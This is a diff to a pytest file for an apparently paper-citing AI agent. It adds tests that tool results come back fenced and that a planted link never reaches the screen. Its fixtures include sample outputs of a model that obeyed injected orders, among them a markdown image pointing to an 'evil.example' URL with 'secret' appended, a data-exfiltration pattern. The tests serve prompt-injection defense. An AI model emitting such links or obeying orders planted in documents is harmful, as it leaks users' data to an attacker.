@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import json
 import re
 from collections.abc import Callable, Iterator
+from itertools import repeat
 from pathlib import Path
 
 import pytest
@@ -14,9 +16,11 @@ from citehop.agent.ask import ask
 from citehop.agent.llm.meter import Meter
 from citehop.agent.llm.roles import Models
 from citehop.agent.llm.types import Reply, Request, ToolCall
+from citehop.agent.plan import Plan
 from citehop.agent.prompting import fence
 from citehop.agent.session import Session, open_session
-from citehop.agent.testing import QueueLLM
+from citehop.agent.testing import ModelServer, QueueLLM
+from citehop.app.main import main
 from citehop.indexes.build import build
 from citehop.settings import Settings
 
@@ -132,6 +136,25 @@ def test_orders_stand_inside_the_fences_of_every_prompt_and_the_answer_is_the_pa
     assert answer.notes == ()
 
 
+@pytest.mark.parametrize("place", range(20), ids=NAMES)
+def test_the_agents_tools_hand_over_papers_inside_fences_too(place: int, session: Session) -> None:
+    paper = NAMES[place].lower()
+    wanted = [
+        ("search", {"query": f"{NAMES[place]}Net learning rate", "papers": [paper]}),
+        ("rank_papers", {"question": question(place)}),
+        ("read_page", {"paper": paper, "page": 1}),
+    ]
+    steps = [
+        Reply(tool_calls=(ToolCall(f"c{number}", name, json.dumps(arguments)),))
+        for number, (name, arguments) in enumerate(wanted)
+    ]
+    llm = QueueLLM([*steps, believer(place)])
+    answer = ask(session, question(place), models=models(llm), plan=Plan(agent=True))
+    assert [message.role for message in llm.requests[-1].messages[2:]] == ["assistant", "tool"] * 3
+    assert answer.text == f"The learning rate is 0.0{place + 10}. [1]"
+    assert answer.citations[0].paper_id == paper
+
+
 OBEDIENT = (
     f"Here it is: {EVIL}secret\n> [1] see the figure there for all results",
     f"The rate is small. ![chart]({EVIL}secret)\n> [1] learning rate",
@@ -170,6 +193,19 @@ def test_even_a_model_that_obeys_gets_nothing_unproven_through(place: int, sessi
     )  # rerank, rewrite, compose, repair: a tool call that nobody offered does nothing
     assert all(request.tools == () for request in llm.requests)
     assert {place.paper_id for place in answer.ranking} == set(session.cluster.paper_ids)
+
+
+@pytest.mark.parametrize("place", range(5), ids=NAMES[:5])
+def test_not_even_the_draft_on_the_screen_shows_a_planted_link(
+    place: int, session: Session, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with ModelServer(repeat(OBEDIENT[place])) as server:
+        model = ["--model", "openai/scripted", "--api-base", server.url, "--no-cache"]
+        code = main(["ask", "injected", question(place), "--home", session.settings.home, *model])
+    assert code == 4
+    out, err = capsys.readouterr()
+    assert "draft, not checked yet" in err
+    assert "evil.example" not in out + err
 
 
 def test_a_true_quote_does_not_carry_a_link_through(session: Session) -> None:
